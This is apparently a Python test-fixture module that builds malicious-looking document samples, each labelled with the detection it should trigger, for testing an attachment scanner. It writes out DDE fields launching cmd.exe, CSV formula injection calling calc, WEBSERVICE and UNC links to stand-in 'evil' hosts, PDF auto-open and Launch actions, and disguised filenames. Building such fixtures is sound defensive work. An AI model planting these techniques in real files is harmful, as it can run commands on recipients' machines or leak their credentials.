"""Files that carry a program, or reach out of themselves, by ways that a reader once passed over."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Callable, Mapping
from pathlib import Path

from docx import Document
from openpyxl import Workbook
from openpyxl.formatting.rule import FormulaRule
from openpyxl.workbook.defined_name import DefinedName
from openpyxl.worksheet.datavalidation import DataValidation
from PIL import Image
from pypdf import PdfWriter
from pypdf.generic import ArrayObject, DictionaryObject, NameObject, TextStringObject
from zoo_workbooks import add_part, relate, replace_in, rewrite

Maker = Callable[[Path, str], None]
_SVG = b'<svg xmlns="http://www.w3.org/2000/svg"/>'
_UNC = r"'\\evil\share\[a.xlsx]S'!A1"


def _zip(name: str, data: bytes) -> Maker:
    def make(path: Path, number: str) -> None:
        with zipfile.ZipFile(path, "w") as archive:
            archive.writestr(name, data)

    return make


def _text(data: str) -> Maker:
    def make(path: Path, number: str) -> None:
        path.write_bytes(data.encode())

    return make


def _field(*paragraphs: str) -> Maker:
    """Paragraphs of field marks: ``{`` begins, ``|`` parts the result, ``}`` ends, the rest is instruction."""
    marks = {"{": "begin", "|": "separate", "}": "end"}

    def body(text: str) -> str:
        runs = []
        for part in text.replace("{", "\1{\1").replace("|", "\1|\1").replace("}", "\1}\1").split("\1"):
            mark = f'<w:fldChar w:fldCharType="{marks.get(part)}"/>'
            runs.append(mark if part in marks else f"<w:instrText>{part}</w:instrText>")
        return "<w:p>" + "".join(f"<w:r>{run}</w:r>" for run in runs) + "</w:p>"

    xml = "".join(map(body, paragraphs))
    return _document(lambda members: replace_in(members, "word/document.xml", "<w:body>", f"<w:body>{xml}"))


def _document(edit: Callable[[dict[str, bytes]], None]) -> Maker:
    def make(path: Path, number: str) -> None:
        Document().save(str(path))
        rewrite(path, edit)

    return make


def _in_body(xml: str) -> Maker:
    return _document(lambda members: replace_in(members, "word/document.xml", "<w:body>", f"<w:body>{xml}"))


def _in_settings(xml: str) -> Maker:
    end = "</w:settings>"
    return _document(lambda members: replace_in(members, "word/settings.xml", end, xml + end))


def _part(name: str, kind: str, xml: str) -> Maker:
    def edit(members: dict[str, bytes]) -> None:
        add_part(members, f"word/{name}", "application/xml", xml)
        relate(members, "word/_rels/document.xml.rels", kind, name)

    return _document(edit)


def _media(name: str, data: bytes) -> Maker:
    return _document(lambda members: members.__setitem__(f"word/media/{name}", data))


def _workbook(change: Callable[[Workbook], None]) -> Maker:
    def make(path: Path, number: str) -> None:
        book = Workbook()
        change(book)
        book.save(path)

    return make


def _cell(formula: str) -> Maker:
    return _workbook(lambda book: book.active.__setitem__("A1", formula))


def _name(name: str, formula: str) -> Maker:
    return _workbook(lambda book: book.defined_names.__setitem__(name, DefinedName(name, attr_text=formula)))


def _condition(book: Workbook) -> None:
    book.active.conditional_formatting.add("A1", FormulaRule(formula=[f"{_UNC}=1"]))


def _validation(book: Workbook) -> None:
    rule = DataValidation(type="list", formula1="'http://evil.invalid/[a.xlsx]S'!A1")
    rule.add("A1")
    book.active.add_data_validation(rule)


def _chart(members: dict[str, bytes]) -> None:
    add_part(members, "word/charts/chart1.xml", "application/xml", f"<c:c xmlns:c='c'><c:f>{_UNC}</c:f></c:c>")


def _pdf(change: Callable[[PdfWriter], None]) -> Maker:
    def make(path: Path, number: str) -> None:
        writer = PdfWriter()
        writer.add_blank_page(200, 200)
        change(writer)
        writer.write(path)

    return make


def _entries(**entries: object) -> DictionaryObject:
    found = DictionaryObject()
    for key, value in entries.items():
        found[NameObject(f"/{key}")] = value
    return found


_LINK = {"S": NameObject("/URI"), "URI": TextStringObject("http://evil.invalid/")}


def _opening(writer: PdfWriter) -> None:
    writer.root_object[NameObject("/OpenAction")] = writer._add_object(_entries(**_LINK))


def _page_opening(writer: PdfWriter) -> None:
    writer.pages[0][NameObject("/AA")] = _entries(O=_entries(**_LINK))


def _base(writer: PdfWriter) -> None:
    writer.root_object[NameObject("/URI")] = _entries(Base=TextStringObject("http://evil.invalid/"))


def _indirect(writer: PdfWriter) -> None:
    """What the action is stands in an object of its own."""
    writer.root_object[NameObject("/Extra")] = _entries(S=writer._add_object(NameObject("/Launch")))


def _outer_file(writer: PdfWriter) -> None:
    file = _entries(Type=NameObject("/Filespec"), F=TextStringObject(r"\\evil\share\a.pdf"))
    note = _entries(Type=NameObject("/Annot"), Subtype=NameObject("/FileAttachment"), FS=file)
    writer.pages[0][NameObject("/Annots")] = ArrayObject([note])


def _script_inside(writer: PdfWriter) -> None:
    writer.add_attachment("a.js", b"x")


def _two_names(writer: PdfWriter) -> None:
    writer.add_attachment("a.txt", b"x")
    for file in writer._objects:
        if isinstance(file, DictionaryObject) and "/EF" in file:
            file[NameObject("/F")], file[NameObject("/UF")] = TextStringObject("a.js"), TextStringObject("a.txt")


def _png(kind: bytes, size: int) -> Maker:
    def make(path: Path, number: str) -> None:
        stream = io.BytesIO()
        Image.new("L", (8, 8), 255).save(stream, "PNG")
        data, body = stream.getvalue(), bytes(size)
        chunk = struct.pack(">I", size) + kind + body + struct.pack(">I", zlib.crc32(kind + body))
        path.write_bytes(data[:33] + chunk + data[33:])

    return make


_EXTERNAL, _TYPE, _MACRO, _OBJECT = (
    "!attachment-external",
    "!attachment-type",
    "!attachment-macro",
    "!attachment-embedded",
)
_IMAGEDATA = (
    '<w:p><w:r><w:pict><v:imagedata xmlns:v="v" xmlns:o="o" o:href="http://evil.invalid/a.png"/></w:pict></w:r></w:p>'
)
SMUGGLED: Mapping[str, tuple[Maker, str]] = {
    "script.zip": (_zip("通知.js", b"alert(1)"), _TYPE),
    "page.zip": (_zip("a.html", b"<p>"), _TYPE),
    "drawing.zip": (_zip("a.svg", _SVG), _OBJECT),
    "turned-name.zip": (_zip("a\u202egpj.txt", b"x"), _TYPE),
    "script-inside.pdf": (_pdf(_script_inside), _TYPE),
    "two-names.pdf": (_pdf(_two_names), _TYPE),
    "media-svg.docx": (_media("a.svg", _SVG), _OBJECT),
    "media-svg-as-png.docx": (_media("a.png", b"<?xml version='1.0'?>" + _SVG), _OBJECT),
    "program.docx": (_media("printerSettings1.bin", b"MZ" + bytes(200)), _OBJECT),
    "second-field.docx": (_field(r"{PAGE|}{DDEAUTO c:\cmd.exe}"), _EXTERNAL),
    "field-in-two.docx": (_field("{DDEA", r"UTO c:\cmd.exe}"), _EXTERNAL),
    "field-in-field.docx": (_field(r"{IF 1 = 1 {INCLUDEPICTURE a}}"), _EXTERNAL),
    "share-field.docx": (_field(r"{HYPERLINK \\\\evil\\share}"), _EXTERNAL),
    "program-field.docx": (_field('{HYPERLINK "ms-word:ofe" \\o "x"|}'), _EXTERNAL),
    "merge.docx": (_in_settings('<w:mailMerge><w:connectString w:val="x"/></w:mailMerge>'), _EXTERNAL),
    "vml-picture.docx": (_in_body(_IMAGEDATA), _EXTERNAL),
    "alternate.docx": (_in_body('<w:altChunk w:id="x"/>'), _OBJECT),
    "pane.docx": (_part("x1.xml", "webextensiontaskpanes", "<a/>"), _MACRO),
    "ribbon.docx": (_part("x2.xml", "extensibility", "<customUI/>"), _MACRO),
    "chart-source.docx": (_document(_chart), _EXTERNAL),
    "web-service.xlsx": (_cell('=_xlfn.WEBSERVICE ("http://evil.invalid/")'), _EXTERNAL),
    "share.xlsx": (_cell(f"=1+{_UNC}"), _EXTERNAL),
    "file-function.xlsx": (_cell('=HYPERLINK("file://evil/a")'), _EXTERNAL),
    "worked-out-link.xlsx": (_cell('=HYPERLINK("fi"&"le://evil/a")'), _EXTERNAL),
    "name-source.xlsx": (_name("甲", _UNC), _EXTERNAL),
    "condition-source.xlsx": (_workbook(_condition), _EXTERNAL),
    "validation-source.xlsx": (_workbook(_validation), _EXTERNAL),
    "by-itself.xlsx": (_name("_xlnm.Auto_Open", "Sheet1!$A$1"), _MACRO),
    "other-delimiter.csv": (_text("姓名|地址|电话\n=cmd|'/C calc'!A0,2\n"), _EXTERNAL),
    "wide-sign.csv": (_text("a\n甲; ＝ＷＥＢＳＥＲＶＩＣＥ(1)\n"), _EXTERNAL),
    "two-lines.csv": (_text('a,"=\nHYPERLINK(""x"")"\n'), _EXTERNAL),
    "carriage-return.csv": (_text("a\r@SUM(1)*cmd|'/C calc'!A0\r"), _EXTERNAL),
    "sum.csv": (_text("a,b\n1,=1+1\n"), "!attachment-formula"),
    "link-list.csv": (_text("ID;PWXL;N;E\n"), _TYPE),
    "page.csv": (_text("\n <!DOCTYPE html><script>"), _TYPE),
    "html.txt": (_text("<html>x"), _TYPE),
    "opening.pdf": (_pdf(_opening), _MACRO),
    "page-opening.pdf": (_pdf(_page_opening), _MACRO),
    "indirect-launch.pdf": (_pdf(_indirect), _MACRO),
    "base.pdf": (_pdf(_base), _EXTERNAL),
    "outer-file.pdf": (_pdf(_outer_file), _EXTERNAL),
    "private-chunk.png": (_png(b"prIv", 2_000), "!attachment-hidden"),
    "critical-chunk.png": (_png(b"ABCD", 4), "!attachment-hidden"),
}
